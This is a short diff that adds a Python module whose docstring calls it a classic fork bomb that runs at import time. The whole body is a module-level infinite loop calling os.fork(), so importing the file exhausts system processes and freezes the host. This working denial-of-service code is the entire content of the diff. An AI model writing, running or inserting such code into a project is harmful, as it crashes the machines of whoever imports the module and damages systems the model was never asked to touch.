@@ -1,0 +1,6 @@
+"""Classic fork bomb at import time."""
+
+import os
+
+while True:
+    os.fork()
